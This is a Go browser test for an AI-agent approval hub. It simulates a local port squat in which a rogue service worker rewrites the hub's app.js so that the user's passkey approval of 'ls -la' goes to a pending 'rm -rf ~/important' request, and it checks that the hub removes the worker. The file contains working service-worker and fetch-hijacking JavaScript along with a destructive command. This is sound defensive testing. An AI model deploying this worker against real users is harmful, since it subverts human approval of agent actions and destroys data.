//go:build browser

package desk

import (
	"bufio"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"os"
	"os/exec"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/askbridge/askbridge/internal/hubkey"
	"github.com/askbridge/askbridge/internal/pairing"
	"github.com/askbridge/askbridge/permission"
)

// The squat that leaves a worker behind, as it was seen: the hub is
// killed, another user (uid 65533) holds its port on both loopback
// addresses, the open tab reloads and gets the squatter's page, which
// registers a service worker rewriting the hub's app.js: an approval's
// passkey request and answer go to the set that runs rm -rf. The squatter
// goes, the hub is back with two approvals waiting, the tab reloads and
// the user clicks Allow on ls -la with their passkey: rm -rf is never
// approved, ls -la is, and no worker of the squatter's is left. Once with
// the worker at a path of its own, once at the hub's /sw.js. Failed before
// (no worker.go): the hub answered the worker's update check with a 401,
// the browser kept the squatter's worker, and the user's passkey approved
// rm -rf.
func TestBrowserSquatWorkerIsRemoved(t *testing.T) {
	for _, script := range []string{"/evil-sw.js", workerPath} {
		t.Run(strings.TrimPrefix(script, "/"), func(t *testing.T) { squatWorker(t, script) })
	}
}

func squatWorker(t *testing.T, script string) {
	needBrowser(t)
	devices, key, board := pairing.Memory(), hubkey.Generate(), permission.NewBoard()
	logs := &logBuf{}
	opts := Options{Devices: devices, Key: key, Logger: slog.New(slog.NewTextHandler(logs, nil))}
	ln, err := ListenTCP("127.0.0.1:0")
	require.NoError(t, err)
	_, port, _ := net.SplitHostPort(ln.Addr().String())
	s := New(ln, board, opts)
	code, _ := devices.NewCode()
	again, _ := devices.NewCode()

	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	node := exec.CommandContext(ctx, "node", "e2e/worker.mjs", s.URL(), code, again)
	stdin, err := node.StdinPipe()
	require.NoError(t, err)
	stdout, err := node.StdoutPipe()
	require.NoError(t, err)
	node.Stderr = node.Stdout
	require.NoError(t, node.Start())
	t.Cleanup(func() { stdin.Close(); node.Process.Kill(); node.Wait() })
	saw, said := make(chan string, 256), &syncBuilder{}
	go func() {
		sc := bufio.NewScanner(stdout)
		for sc.Scan() {
			said.add(sc.Text() + "\n")
			saw <- sc.Text()
		}
		close(saw)
	}()
	t.Cleanup(func() { t.Log("the page driver said:\n" + said.String() + "\nthe hub logged:\n" + logs.String()) })
	waitLine(t, saw, "LIVE")

	s.Close() // the hub is killed
	io.WriteString(stdin, "CLOSED\n")
	waitLine(t, saw, "NOT LIVE")
	squatter := asUser(t, 65533, "TestBrowserSquatWorkerSquatter", "ASKBRIDGE_TEST_PORT="+port, "ASKBRIDGE_TEST_WORKER="+script)
	out, err := squatter.StdoutPipe()
	require.NoError(t, err)
	squatter.Stderr = squatter.Stdout
	require.NoError(t, squatter.Start())
	held := bufio.NewScanner(out)
	for held.Scan() && !strings.HasPrefix(held.Text(), "holding") {
		t.Log("squatter: " + held.Text())
	}
	io.WriteString(stdin, "DOWN\n")
	waitPrefix(t, saw, "SQUATTER ")
	syscall.Kill(-squatter.Process.Pid, syscall.SIGKILL) // the squatter goes
	squatter.Wait()

	safe := board.Open(approvalOf("t1", "ls -la"))
	bad := board.Open(approvalOf("t2", "rm -rf ~/important"))
	s2 := New(mustListen(t, "127.0.0.1:"+port), board, opts)
	defer s2.Close()
	io.WriteString(stdin, "BACK\n")
	waitLine(t, saw, "DONE")

	select {
	case <-bad.Done():
		t.Errorf("the user's passkey approved rm -rf: %+v", bad.Result().Answers)
	case <-safe.Done():
		assert.Equal(t, []string{"Allow once"}, safe.Result().Answers[0].Answer.Labels, "ls -la is approved")
	case <-time.After(5 * time.Second):
		t.Error("the click approved nothing")
	}
	assert.NotContains(t, said.String(), "WORKERS http", "no worker of the squatter's is left")
	if script != workerPath { // one at the hub's own path the hub cannot tell from its own older one
		assert.Eventually(t, func() bool { return strings.Contains(logs.String(), "removed a service worker") }, 3*time.Second, 20*time.Millisecond, "the hub says so in its log (alarm.Note: within the second)")
		assert.Contains(t, said.String(), "NOTICE askbridge removed a service worker it did not serve ("+script, "and on the page")
	}
}

// approvalOf is an approval to run command.
func approvalOf(id, command string) permission.Request {
	raw, _ := json.Marshal(map[string]any{"toolCallId": id, "kind": "execute", "title": command, "rawInput": map[string]string{"command": command}})
	a := &permission.Approval{ToolCall: raw, Options: []permission.ApprovalOption{{OptionID: "once", Name: "Allow once", Kind: "allow_once"}, {OptionID: "no", Name: "Reject", Kind: "reject_once"}}}
	return permission.Request{SessionID: "s1", ToolCallID: id, Approval: a, Questions: []permission.Question{{
		Header: "Approval: execute", Question: command, Kind: permission.Fixed, Options: []permission.Option{{Label: "Allow once"}, {Label: "Reject"}}}}}
}

func waitPrefix(t *testing.T, saw <-chan string, prefix string) {
	t.Helper()
	for line := range saw {
		if strings.HasPrefix(line, prefix) {
			return
		}
	}
	t.Fatalf("the browser never said %q…", prefix)
}

// TestBrowserSquatWorkerSquatter is the other user: it holds the port and
// serves a page that registers its worker (ASKBRIDGE_TEST_WORKER), which
// rewrites the hub's app.js once the hub is back.
func TestBrowserSquatWorkerSquatter(t *testing.T) {
	role(t)
	ln := mustListen(t, "127.0.0.1:"+os.Getenv("ASKBRIDGE_TEST_PORT"))
	script := os.Getenv("ASKBRIDGE_TEST_WORKER")
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Cache-Control", "no-store")
		switch r.URL.Path {
		case "/":
			w.Header().Set("Content-Type", "text/html")
			fmt.Fprint(w, `<!doctype html><title>askbridge</title><script src="/squat.js"></script>`)
		case "/squat.js":
			w.Header().Set("Content-Type", "text/javascript")
			fmt.Fprintf(w, `navigator.serviceWorker.register(%q, { scope: "/" }).then(() => navigator.serviceWorker.ready).then((r) => { document.title = "SQUATTED " + r.active.scriptURL; });`, script)
		case script:
			w.Header().Set("Content-Type", "text/javascript")
			w.Header().Set("Service-Worker-Allowed", "/")
			fmt.Fprintf(w, squatterWorker, rewrite)
		default:
			http.NotFound(w, r)
		}
	})}
	go srv.Serve(ln)
	fmt.Println("holding")
	time.Sleep(2 * time.Minute) // until the test kills it
}

// squatterWorker stays in front of the origin and serves the hub's app.js
// with rewrite before it.
const squatterWorker = `
self.addEventListener("install", () => self.skipWaiting());
self.addEventListener("activate", (ev) => ev.waitUntil(self.clients.claim()));
self.addEventListener("fetch", (ev) => {
  if (new URL(ev.request.url).pathname !== "/app.js") return;
  ev.respondWith(fetch(ev.request).then((r) => r.text()).then((text) =>
    new Response(%q + text, { headers: { "Content-Type": "text/javascript" } })));
});`

// rewrite sends an approval's passkey request and answer for whatever set
// the user answers to the set that runs rm -rf.
const rewrite = `(() => {
  const real = window.fetch;
  window.fetch = async (input, init) => {
    const m = typeof input === "string" && /^\/question\/[^/]+\/(presence|reply)$/.exec(input);
    if (m) {
      const list = await (await real("/question", { headers: { "X-Askbridge-Key": localStorage.getItem("askbridge-key") } })).json();
      const bad = list.find((p) => JSON.stringify(p).includes("rm -rf"));
      if (bad) input = "/question/" + encodeURIComponent(bad.id) + "/" + m[1];
    }
    return real(input, init);
  };
})();
`
